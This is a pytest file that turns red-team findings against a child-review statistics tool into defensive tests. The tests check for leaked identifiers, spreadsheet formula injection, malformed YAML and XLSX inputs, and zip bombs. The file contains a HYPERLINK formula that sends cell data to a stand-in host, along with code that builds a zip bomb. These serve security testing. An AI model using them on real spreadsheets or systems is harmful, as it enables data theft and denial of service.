"""Issue 14, the input side: each reproduction of the red-team pass, as a test.

Identifiers must never be echoed or kept, spreadsheets written by cprstats must never start a
formula, a user's mistake must never show a traceback, hostile files must not exhaust memory or
time, and nothing may be silently dropped.

Every identifier here is a synthetic value that belongs to nobody (see
tests/forms/test_identifier_patterns.py for where each comes from): the NHS documentation example
number 943 476 5919, Ofcom's drama numbers 07700 900123 and 029 2018 0123, the made-up postcode
CF10 1AA, example.org (RFC 2606), and made-up names and streets. Each test that could print or
save one checks that it appears in no output, message or file.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import time
import tracemalloc
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import cprstats
import cprstats.forms.reader as reader
from cprstats.cli import main
from cprstats.errors import CodingError, CprstatsError, FormsError, ParameterError
from cprstats.io import FORMULA_TRIGGERS, write_csv

HEAD = ["review_id", "child_no", "local_authority", "review_type", "incident_date", "sex"]
GOOD = ["CYSUR 1 2018", "1", "cardiff", "mapf", "2019-05", "female"]
GOOD2 = ["CYSUR 2 2019", "1", "powys", "mapf", "2019-06", "male"]


def _csv(path: Path, rows) -> Path:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def _cli(*argv):
    """Run the command line in-process: (exit code, stdout + stderr). No traceback is allowed."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main([str(a) for a in argv])
        except SystemExit as exc:  # argparse usage errors
            code = exc.code
    text = out.getvalue() + err.getvalue()
    assert "Traceback" not in text
    assert "internal error" not in text, text
    return code, text


def _files_text(folder: Path) -> str:
    """Everything written under ``folder`` (text files and XLSX cells), to search for identifiers."""
    parts = []
    for p in folder.rglob("*"):
        if not p.is_file():
            continue
        if p.suffix == ".xlsx":
            with zipfile.ZipFile(p) as z:
                parts += [z.read(n).decode("utf-8", "replace") for n in z.namelist()]
        else:
            parts.append(p.read_bytes().decode("utf-8", "replace"))
    return "\n".join(parts)


def _absent(values, *texts):
    blob = "\n".join(texts)
    for v in values:
        assert v not in blob, f"{v!r} was echoed"


# =========================================================================== identifiers echoed or kept
NO_HEADER_ROW = ["Jane Smith", "943 476 5919", "CF10 1AA", "jo.bloggs@example.org", "07700 900123"]


def test_csv_without_a_header_row_is_refused_and_never_printed(tmp_path):
    p = _csv(tmp_path / "forms.csv", [NO_HEADER_ROW, ["John Jones", "401 023 2137", "SA99 1AA", "a@example.org", "x"]])
    with pytest.raises(FormsError, match="no header row") as info:
        cprstats.read_forms(p)
    _absent(NO_HEADER_ROW, str(info.value))
    code, text = _cli("validate", p)
    assert code == 2 and "no header row" in text
    _absent(NO_HEADER_ROW, text)


def test_xlsx_without_a_header_row_is_refused_and_never_printed(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.title = "coding"
    wb.active.append(NO_HEADER_ROW)
    wb.active.append(GOOD[:5])
    wb.save(tmp_path / "forms.xlsx")
    code, text = _cli("validate", tmp_path / "forms.xlsx", "--report", tmp_path / "out" / "problems.csv")
    assert code == 2 and "no header row" in text
    _absent(NO_HEADER_ROW, text)
    assert not (tmp_path / "out").exists()


def test_first_childs_codes_as_header_are_refused(tmp_path):
    p = _csv(tmp_path / "forms.csv", [GOOD, GOOD2])
    with pytest.raises(FormsError, match=r"no header row.*column \d+ holds what looks like") as info:
        cprstats.read_forms(p)
    _absent(["CYSUR 1 2018", "cardiff"], str(info.value))


def test_a_real_header_row_with_an_identifying_column_name(tmp_path):
    p = _csv(tmp_path / "forms.csv", [[*HEAD, "Jane Smith"], [*GOOD, "x"]])
    code, text = _cli("validate", p)
    assert code == 1 and "(column 7)" in text and "no header row" not in text
    _absent(["Jane Smith"], text)


def test_identifying_column_name_in_a_dataframe_is_not_shown():
    forms = pd.DataFrame({"review_id": ["CYSUR 1 2018"], "Jane Smith": ["yes"]}, index=pd.Index([2], name="row"))
    out = cprstats.find_identifiers(forms)
    assert out["field"].tolist() == ["(column 2)"]
    _absent(["Jane", "Smith"], out.to_csv())


CODED_FIELD_IDENTIFIERS = {"sex": "Jane Smith", "local_authority": "14 Heol y Wern, Llanelli"}


def _forms_with_identifiers_in_coded_fields(path: Path) -> Path:
    row = dict(zip(HEAD, GOOD))
    row.update(CODED_FIELD_IDENTIFIERS)
    return _csv(path, [HEAD, list(row.values()), GOOD2])


def test_identifiers_in_coded_fields_are_refused_and_never_printed_or_saved(tmp_path):
    p = _forms_with_identifiers_in_coded_fields(tmp_path / "forms.csv")
    values = list(CODED_FIELD_IDENTIFIERS.values()) + ["Heol y Wern", "Llanelli"]
    for report in ("problems.csv", "problems.xlsx"):
        code, text = _cli("validate", p, "--report", tmp_path / "out" / report)
        assert code == 1 and "looks like a person's name" in text and "looks like an address" in text
        _absent(values, text)
    saved = _files_text(tmp_path / "out")
    assert "[withheld: looks like a person" in saved
    _absent(values, saved)


def test_the_coder_withholds_invalid_values_that_fail_the_screen(tmp_path):
    p = _forms_with_identifiers_in_coded_fields(tmp_path / "forms.csv")
    forms = cprstats.read_forms(p, check=False)
    forms.loc[3, "sex"] = "jane"  # a lone first name, in lower case
    forms.loc[3, "review_type"] = "deth"  # an ordinary typo: shown, so the coder can find it
    with pytest.raises(CodingError) as info:
        cprstats.code_reviews(forms, check_identifiers=False)
    probs = info.value.problems
    shown = dict(zip(zip(probs["row"], probs["field"]), probs["value"]))
    assert shown[(2, "sex")] == "[withheld: looks like a person's name]"
    assert shown[(2, "local_authority")] == "[withheld: looks like an address]"
    assert shown[(3, "sex")] == "[withheld: looks like a person's name]"
    assert shown[(3, "review_type")] == "deth"
    _absent(list(CODED_FIELD_IDENTIFIERS.values()) + ["jane"], str(info.value), probs.to_csv())


def test_agree_and_run_never_print_identifiers_in_coded_fields(tmp_path):
    a = _forms_with_identifiers_in_coded_fields(tmp_path / "a.csv")
    b = _csv(tmp_path / "b.csv", [HEAD, GOOD, GOOD2])
    values = list(CODED_FIELD_IDENTIFIERS.values())
    code, text = _cli("agree", a, b, "--out", tmp_path / "agree")
    assert code == 1
    assert not (tmp_path / "agree").exists()
    _absent(values, text)
    code, text = _cli("run", "--data", a, "--output", tmp_path / "run", "-q")
    assert code == 1 and "No notebook was run" in text
    _absent(values, text)


# 21 values a red team typed into a kept column: each must be refused, with its value hidden
KEPT = [
    "943.476.5919",
    "943 476-5919",
    "9434 765 919",
    "943\u200b476\u200b5919",
    "９４３ ４７６ ５９１９",
    "CF10-1AA",
    "0044 7700 900123",
    "00 44 29 2018 0123",
    "07700.900.123",
    "DOB 14 Feb 2008",
    "born 03/2008",
    "Jane Smith 14.02.2008",
    "mum drunk when SW visited",
    "Dad hit him at home",
    "seen by HV, baby bruised",
    "Jane Smith",
    "Smith, Jane",
    "Mrs Jones",
    "14 Heol y Wern, Llanelli",
    "Flat 3, Tŷ Gwyn",
    "jo.bloggs [at] example [dot] org",
]


@pytest.mark.parametrize("value", KEPT)
def test_identifiers_never_reach_a_coded_dataset_through_keep_column(tmp_path, value):
    p = _csv(tmp_path / "forms.csv", [[*HEAD, "notes"], [*GOOD, value], [*GOOD2, "checked"]])
    out = tmp_path / "out" / "coded.csv"
    code, text = _cli("code", p, "-o", out, "--keep-column", "notes")
    assert code == 1 and "holds what looks like" in text
    assert not out.exists()
    _absent([value], text)


@pytest.mark.parametrize("review_id", ["Jane Smith 14.02.2008", "J Smith 14/02/2008", "CF10 1AA 2019"])
def test_a_review_id_cannot_hold_a_name_or_a_date_of_birth(tmp_path, review_id):
    p = _csv(tmp_path / "forms.csv", [HEAD, [review_id, *GOOD[1:]]])
    code, text = _cli("validate", p)
    assert code == 1 and "review_id" in text
    _absent([review_id, "Smith", "14/02/2008", "14.02.2008"], text)


def _coded_dataset(tmp_path: Path, **changes) -> Path:
    data = cprstats.load_example("wales").head(5).copy()
    out = tmp_path / "data" / "coded.csv"
    cprstats.write_dataset(data, out)
    raw = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    for col, value in changes.items():
        raw[col] = raw[col] if col in raw else ""
        raw.loc[1, col] = value
    raw.to_csv(out, index=False, encoding="utf-8-sig")
    (out.parent / "datapackage.json").unlink()  # as a researcher's own copy, saved with pandas
    return out


@pytest.mark.parametrize(
    "changes, hidden",
    [
        ({"notes": "NHS 943.476.5919"}, ["943.476.5919", "5919"]),
        ({"sex": "Jane Smith"}, ["Jane", "Smith"]),
        ({"review_id": "Jane Smith 14.02.2008"}, ["Jane", "14.02.2008"]),
    ],
    ids=["kept_column", "coded_field", "review_id"],
)
def test_a_coded_dataset_is_screened_before_it_is_read(tmp_path, changes, hidden):
    src = _coded_dataset(tmp_path, **changes)
    with pytest.raises(CodingError) as info:
        reader.screen_dataset(src)
    _absent(hidden, str(info.value), info.value.problems.to_csv())


def test_bad_cells_of_a_coded_dataset_are_reported_without_a_traceback(tmp_path):
    src = _coded_dataset(tmp_path, sex="femal", child_no="1e1", incident_date="2019-13", harm_neglect="maybe")
    with pytest.raises(CodingError) as info:
        reader.screen_dataset(src)
    fields = set(info.value.problems["field"])
    assert {"sex", "child_no", "incident_date", "harm_neglect"} <= fields
    assert "femal" in info.value.problems["value"].tolist()  # harmless: shown so it can be found


def test_a_good_coded_dataset_passes_the_screen(tmp_path):
    reader.screen_dataset(_coded_dataset(tmp_path))


@pytest.mark.parametrize("changes", [{"sex": "Jane Smith"}, {"notes": "NHS 943.476.5919"}], ids=["coded", "kept"])
def test_export_command_screens_a_coded_dataset(tmp_path, changes):
    src = _coded_dataset(tmp_path, **changes)
    code, text = _cli("export", src, "--format", "csv", "-o", tmp_path / "out" / "x.csv")
    assert code in (1, 2)
    _absent([*changes.values(), "Jane", "5919"], text)
    assert not (tmp_path / "out").exists()


def test_export_command_with_a_bad_datapackage_json(tmp_path):
    src = _coded_dataset(tmp_path)
    (src.parent / "datapackage.json").write_text("{not json", encoding="utf-8")
    code, text = _cli("export", src, "--format", "csv", "-o", tmp_path / "out" / "x.csv")
    assert code == 2 and "datapackage.json" in text


# =========================================================================== spreadsheet safety
def test_a_bare_carriage_return_cannot_start_an_unprotected_row(tmp_path):
    df = pd.DataFrame({"value": ['ok\r=HYPERLINK("http://example.org/?"&A1)', "fine"], "n": [1, 2]})
    out = write_csv(df, tmp_path / "t.csv")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == 3
    assert rows[1][0] == df.loc[0, "value"]  # the text survives, inside its quoted cell
    raw = out.read_bytes().decode("utf-8-sig")
    assert '"ok\r=HYPERLINK' in raw  # the carriage return is inside a quoted field: no new row, no new cell


def test_validate_report_with_a_carriage_return_value(tmp_path):
    p = _csv(tmp_path / "forms.csv", [HEAD, [*GOOD[:5], "x\r=1+1"]])
    code, _ = _cli("validate", p, "--report", tmp_path / "problems.csv")
    assert code == 1
    with open(tmp_path / "problems.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert all(len(r) == 6 for r in rows)
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r)


_HOSTILE_TEXT = st.text(
    alphabet=st.sampled_from(list("=+-@\t\r\n\x00\"',;|!ab1 0.eE") + ["\u2028", "\x0b", "ŵ"]), max_size=12
)
_PLAIN = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


@settings(
    max_examples=150, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    cells=st.lists(st.lists(_HOSTILE_TEXT, min_size=2, max_size=2), min_size=1, max_size=6),
    names=st.lists(_HOSTILE_TEXT, min_size=2, max_size=2, unique=True),
)
def test_write_csv_never_lets_a_cell_start_a_formula(tmp_path, cells, names):
    df = pd.DataFrame(cells, columns=names)
    out = write_csv(df, tmp_path / "h.csv")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == len(df) + 1
    for row in rows:
        for cell in row:
            assert not (cell.startswith(FORMULA_TRIGGERS) and not _PLAIN.fullmatch(cell)), repr(cell)


# =========================================================================== no traceback
def _workbook(path: Path, sheets: dict, hidden=()) -> Path:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for r in rows:
            ws.append(list(r))
        if title in hidden:
            ws.sheet_state = "hidden"
    wb.save(path)
    return path


def _rewrite_zip(path: Path, change) -> None:
    with zipfile.ZipFile(path) as z:
        items = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in items:
            z.writestr(name, change(name, data))


FIVE = [HEAD[:5]] + [[f"XL {i} 2019", 1, "cardiff", "mapf", "2019-05"] for i in range(1, 6)]


def test_malformed_sheet_xml(tmp_path):
    p = _workbook(tmp_path / "forms.xlsx", {"coding": FIVE})
    _rewrite_zip(p, lambda n, b: b[: len(b) // 2] if n.endswith("sheet1.xml") else b)
    with pytest.raises(FormsError, match="not a readable Excel workbook"):
        cprstats.read_forms(p)
    assert _cli("validate", p)[0] == 2


@pytest.mark.parametrize(
    "text, error",
    [
        ("review_id: A 1\nchild_no: 1\nincident_date: 2019-02-30\n", CodingError),  # impossible date
        ("review_id: A 1\nchild_no: " + "9" * 5000 + "\n", CodingError),  # 5,000 digits
        ("review_id: " + "[" * 5000 + "]" * 5000 + "\n", FormsError),  # deep nesting
        ("review_id: A\nx: " + "{a: " * 3000 + "1" + "}" * 3000 + "\n", FormsError),
        ("review_id: A\nx:\n" + "".join("  " * i + "- \n" for i in range(1, 400)), FormsError),
        ("? [a, b]\n: 1\n", FormsError),  # a list as a key
        ("review_id: !!timestamp 2019-02-30\n", CodingError),
    ],
    ids=["impossible_date", "huge_integer", "deep_flow", "deep_mapping", "deep_block", "list_key", "tagged_date"],
)
def test_yaml_that_used_to_crash(tmp_path, text, error):
    p = tmp_path / "form.yaml"
    p.write_text(text, encoding="utf-8")
    with pytest.raises(error):
        cprstats.code_reviews(p)
    assert _cli("validate", p)[0] in (1, 2)


def test_unreadable_inputs(tmp_path, monkeypatch):
    fifo = tmp_path / "forms.csv"
    if hasattr(os, "mkfifo"):
        os.mkfifo(fifo)
        with pytest.raises(FormsError, match="not a regular file"):
            cprstats.read_forms(fifo)
        fifo.unlink()
    p = _csv(tmp_path / "forms.csv", [HEAD, GOOD])

    def denied(self, *a, **k):
        raise PermissionError(13, "Permission denied", str(self))

    monkeypatch.setattr(Path, "read_bytes", denied)
    with pytest.raises(FormsError, match="cannot be read \\(Permission denied\\)"):
        cprstats.read_forms(p)
    assert _cli("validate", p)[0] == 2
    with pytest.raises(FormsError, match="no such file or folder|cannot be opened"):
        cprstats.read_forms("forms\x00.csv")


@pytest.mark.parametrize(
    "target",
    [
        lambda tmp: tmp / "a_file.txt" / "coded.csv",  # a file where a folder should be
        lambda tmp: tmp / ("x" * 300 + ".csv"),  # a name too long for the file system
        lambda tmp: Path("/proc/version/coded.csv"),  # a read-only system folder
    ],
    ids=["file_in_the_way", "name_too_long", "read_only"],
)
def test_impossible_output_paths(tmp_path, target):
    if str(target(tmp_path)).startswith("/proc") and not Path("/proc/version").is_file():
        pytest.skip("no /proc here")
    (tmp_path / "a_file.txt").write_text("x")
    p = _csv(tmp_path / "forms.csv", [HEAD, GOOD])
    code, text = _cli("code", p, "-o", target(tmp_path))
    assert code == 2 and "cannot write" in text
    bad = _csv(tmp_path / "bad.csv", [HEAD, [*GOOD[:5], "femal"]])
    code, text = _cli("validate", bad, "--report", target(tmp_path))
    assert code == 2 and "cannot write" in text


def test_export_sav_with_a_kept_column_name_holding_a_space(tmp_path):
    p = _csv(tmp_path / "forms.csv", [[*HEAD, "coder note"], [*GOOD, "second coder"], [*GOOD2, ""]])
    coded = tmp_path / "coded.csv"
    assert _cli("code", p, "-o", coded, "--keep-column", "coder note")[0] == 0
    code, text = _cli("export", coded, "--format", "sav", "-o", tmp_path / "coded.sav")
    assert code == 2 and "cannot be an SPSS variable name" in text and "no spaces" in text
    data = cprstats.read_dataset(coded)
    with pytest.raises(ParameterError, match="SPSS variable name"):
        cprstats.export(data, tmp_path / "coded.sav", format="sav")


@pytest.mark.parametrize(
    "package, fragment",
    [
        ("{not json", "not valid JSON"),
        ('{"resources": 3}', "not a data package"),
        ("[" * 100_000, "not valid JSON"),
        ('{"resources": [{"path": 3}]}', "not a data package"),
    ],
)
def test_a_bad_datapackage_json(tmp_path, package, fragment):
    src = _coded_dataset(tmp_path)
    (src.parent / "datapackage.json").write_text(package, encoding="utf-8")
    with pytest.raises(FormsError, match=fragment):
        reader.screen_dataset(src)


# =========================================================================== resources
def test_a_cell_at_xfd1048576_is_refused_quickly(tmp_path):
    from openpyxl import load_workbook

    p = _workbook(tmp_path / "forms.xlsx", {"coding": FIVE})
    wb = load_workbook(p)
    wb["coding"]["XFD1048576"] = "x"
    wb.save(p)
    assert p.stat().st_size < 10_000
    t0 = time.perf_counter()
    with pytest.raises(FormsError, match="beyond column"):
        cprstats.read_forms(p)
    assert time.perf_counter() - t0 < 10


def test_a_far_row_is_read_quickly(tmp_path):
    from openpyxl import load_workbook

    p = _workbook(tmp_path / "forms.xlsx", {"coding": FIVE})
    wb = load_workbook(p)
    wb["coding"]["A1048576"] = "XL 9 2019"
    wb.save(p)
    t0 = time.perf_counter()
    assert list(cprstats.read_forms(p).index) == [2, 3, 4, 5, 6, 1048576]
    assert time.perf_counter() - t0 < 10


def test_an_xlsx_zip_bomb_is_refused_before_it_is_read(tmp_path):
    src = _workbook(tmp_path / "ok.xlsx", {"coding": FIVE})
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(src) as z:
        items = [(n, z.read(n)) for n in z.namelist()]
    size = reader.MAX_XLSX_BYTES + 2**20
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in items:
            if not name.endswith("sheet1.xml"):
                z.writestr(name, data)
                continue
            with z.open(name, "w") as fh:
                fh.write(data[:-20])
                chunk = b" " * 2**20
                for _ in range(size // 2**20):
                    fh.write(chunk)
                fh.write(data[-20:])
    assert bomb.stat().st_size < 2 * 2**20  # small on disk ...
    tracemalloc.start()
    try:
        t0 = time.perf_counter()
        with pytest.raises(FormsError, match="once uncompressed"):
            cprstats.read_forms(bomb)
        assert time.perf_counter() - t0 < 5
        assert tracemalloc.get_traced_memory()[1] < 20 * 2**20  # ... and never inflated
    finally:
        tracemalloc.stop()


def test_too_many_rows_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(reader, "MAX_ROWS", 3)
    with pytest.raises(FormsError, match="more than 3 rows"):
        cprstats.read_forms(_workbook(tmp_path / "forms.xlsx", {"coding": FIVE}))
    with pytest.raises(FormsError, match="more than 3 rows"):
        cprstats.read_forms(_csv(tmp_path / "forms.csv", FIVE))


# =========================================================================== silent data loss
def test_a_stale_dimension_drops_no_row(tmp_path):
    p = _workbook(tmp_path / "forms.xlsx", {"coding": FIVE})
    _rewrite_zip(
        p,
        lambda n, b: (
            re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:E3"/>', b) if n.endswith("sheet1.xml") else b
        ),
    )
    assert list(cprstats.read_forms(p).index) == [2, 3, 4, 5, 6]


def test_a_hidden_sheet_is_never_read_by_default(tmp_path):
    p = _workbook(tmp_path / "forms.xlsx", {"old": [("Jane Smith",)], "Forms": FIVE}, hidden=("old",))
    assert len(cprstats.read_forms(p)) == 5


def test_several_visible_sheets_and_none_named_coding(tmp_path):
    p = _workbook(tmp_path / "forms.xlsx", {"Sheet1": FIVE, "Sheet2": FIVE, "Jane Smith": FIVE})
    with pytest.raises(FormsError, match=r"no sheet is named 'coding'.*'Sheet1', 'Sheet2'") as info:
        cprstats.read_forms(p)
    _absent(["Jane Smith"], str(info.value))
    assert len(cprstats.read_forms(_workbook(tmp_path / "c.xlsx", {"Notes": [("x",)], "Coding": FIVE}))) == 5


def test_a_yaml_folder_refuses_files_it_would_not_read(tmp_path):
    (tmp_path / "a.yaml").write_text("review_id: A 1\nchild_no: 1\n", encoding="utf-8")
    _csv(tmp_path / "more_forms.csv", [HEAD, GOOD])
    (tmp_path / "batch2").mkdir()
    (tmp_path / "README.txt").write_text("notes", encoding="utf-8")
    (tmp_path / ".DS_Store").write_bytes(b"\x00")
    with pytest.raises(FormsError, match=r"also holds batch2/, more_forms\.csv, which would not be read"):
        cprstats.read_forms(tmp_path)


@pytest.mark.parametrize("typed", ["١", "1e1", "1_0", "٣", "１", "0x1", "1.5", " 2 3"])
def test_whole_numbers_are_plain_ascii_digits(tmp_path, typed):
    p = _csv(tmp_path / "forms.csv", [[*HEAD, "n_siblings"], [*GOOD, typed]])
    with pytest.raises(CodingError) as info:
        cprstats.code_reviews(p)
    rec = info.value.problems.set_index("field").loc["n_siblings"]
    assert rec["problem"].startswith("not a whole number")


@pytest.mark.parametrize("typed, value", [("3", 3), ("3.0", 3), ("+2", 2), ("1,0", None)])
def test_plain_numbers_still_read(tmp_path, typed, value):
    p = _csv(tmp_path / "forms.csv", [[*HEAD, "n_siblings"], [*GOOD, typed]])
    if value is None:
        with pytest.raises(CodingError):
            cprstats.code_reviews(p)
    else:
        assert cprstats.code_reviews(p)["n_siblings"].tolist() == [value]


# =========================================================================== fuzzing (slow)
FULL = os.environ.get("CPRSTATS_FULL_FUZZ") == "1"
FUZZ = settings(
    max_examples=10_000 if FULL else 300,
    deadline=None,
    derandomize=True,
    suppress_health_check=list(HealthCheck),
)
_CB = cprstats.load_codebook()
_NAMES = [f.name for f in _CB.input_fields] + ["notes", "Child name", "Jane Smith", "1", ""]
_CODES = sorted({c.value for f in _CB.fields.values() for c in f.categories})
_CELL = st.one_of(
    st.text(max_size=15),
    st.sampled_from(_CODES + KEPT + NO_HEADER_ROW + ["", "yes", "2019-03", "14/02/2008", "=1+1", "١", "1e1"]),
    st.integers(-(10**25), 10**25),
    st.floats(allow_nan=True),
    st.booleans(),
    st.none(),
    st.dates(),
)
_TABLE = st.tuples(
    st.lists(st.sampled_from(_NAMES) | st.text(max_size=8), min_size=1, max_size=6),
    st.lists(st.lists(_CELL, min_size=6, max_size=6), max_size=4),
)


def _only_own_errors(fn, *args, **kwargs):
    try:
        return fn(*args, **kwargs)
    except CprstatsError as exc:
        assert str(exc).strip()
        return None


def _write_input(tmp: Path, kind: str, table) -> Path:
    header, rows = table
    rows = [r[: len(header)] for r in rows]
    if kind == "csv":
        buf = io.StringIO()
        w = csv.writer(buf, lineterminator="\n")
        w.writerow(header)
        w.writerows([["" if c is None else str(c) for c in r] for r in rows])
        path = tmp / "forms.csv"
        path.write_text(buf.getvalue(), encoding="utf-8", errors="surrogatepass")
        return path
    if kind == "xlsx":
        from openpyxl import Workbook
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        def cell(v):
            if isinstance(v, str):
                return ILLEGAL_CHARACTERS_RE.sub("", v)
            if isinstance(v, int) and abs(v) > 2**53:
                return str(v)
            return v

        wb = Workbook()
        wb.active.title = "coding"
        wb.active.append([cell(h) for h in header])
        for r in rows:
            wb.active.append([cell(v) for v in r])
        path = tmp / "forms.xlsx"
        wb.save(path)
        return path
    import yaml

    forms = [{str(h): (v.isoformat() if hasattr(v, "isoformat") else v) for h, v in zip(header, r)} for r in rows]
    path = tmp / "forms.yaml"
    path.write_text(yaml.safe_dump(forms or {"review_id": None}, allow_unicode=True), encoding="utf-8")
    return path


@pytest.mark.slow
@FUZZ
@given(kind=st.sampled_from(["csv", "xlsx", "yaml"]), table=_TABLE)
def test_fuzz_files_only_raise_own_errors(tmp_path_factory, kind, table):
    tmp = tmp_path_factory.mktemp("fuzz")
    try:
        path = _write_input(tmp, kind, table)
    except (UnicodeEncodeError, ValueError):  # a table the writer itself cannot write: not an input
        return
    forms = _only_own_errors(cprstats.read_forms, path)
    if forms is not None:
        _only_own_errors(cprstats.code_reviews, forms)


_ARG = st.one_of(
    st.sampled_from(
        ["--report", "--keep-column", "--codebook", "-o", "--format", "--lang", "--out", "--variables", "notes", "sav"]
    ),
    st.sampled_from(["cy", "en", "dta", "csv", "parquet", "xlsx", "-", "--", "", "\x00", "x" * 300]),
    st.text(max_size=10),
)


@pytest.mark.slow
@FUZZ
@given(
    command=st.sampled_from(["validate", "code", "export", "agree", "codebook", "template"]),
    args=st.lists(_ARG, max_size=5),
    path=st.sampled_from(["forms.csv", "forms.xlsx", "out/x.csv", "missing.csv", "a_file/x.csv", "out/y.sav"]),
)
def test_fuzz_command_line_arguments(tmp_path_factory, monkeypatch, command, args, path):
    tmp = tmp_path_factory.mktemp("cli")
    _csv(tmp / "forms.csv", [[*HEAD, "notes"], [*GOOD, "x"], [*GOOD2, "Jane Smith"]])
    _workbook(tmp / "forms.xlsx", {"coding": FIVE})
    (tmp / "a_file").write_text("x")
    monkeypatch.chdir(tmp)
    monkeypatch.setenv("CPRSTATS_DEBUG", "1")  # an unexpected exception propagates and fails the test
    argv = [command, path, *args]
    if command in ("code", "template") and "-o" not in args:
        argv += ["-o", "out/made.csv" if command == "code" else "out/template.xlsx"]
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(argv)
        except SystemExit as exc:
            code = exc.code
    assert code in (0, 1, 2), (argv, code, err.getvalue()[-500:])
    assert "Jane Smith" not in out.getvalue() + err.getvalue()
